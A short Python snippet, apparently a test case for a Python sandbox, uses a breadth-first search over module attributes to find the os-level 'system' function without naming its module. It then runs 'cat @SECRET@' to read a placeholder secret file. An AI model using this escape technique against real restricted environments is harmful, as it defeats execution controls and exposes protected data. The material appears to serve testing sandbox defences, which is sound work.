# A breadth-first search over attributes finds a function `system` without any name of a module.
# effect: run
import random
queue, seen = [random], set()
while queue:
    thing = queue.pop(0)
    if id(thing) in seen or len(seen) > 5000:
        continue
    seen.add(id(thing))
    if type(thing).__name__ == "builtin_function_or_method" and thing.__name__ == "system":
        thing("cat @SECRET@")
        break
    if type(thing).__name__ == "module":
        queue += [getattr(thing, name) for name in dir(thing)]
